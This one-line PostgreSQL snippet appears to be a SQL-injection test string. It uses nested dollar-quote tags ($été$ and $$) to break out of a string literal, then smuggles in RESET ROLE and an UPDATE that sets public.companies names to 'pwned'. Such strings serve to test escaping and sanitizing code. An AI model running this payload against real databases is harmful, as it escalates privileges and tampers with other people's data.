CREATE TABLE t_tag (x text DEFAULT $été$ $$ $été$); RESET ROLE; UPDATE public.companies SET name = 'pwned'; SELECT $$ $été$;
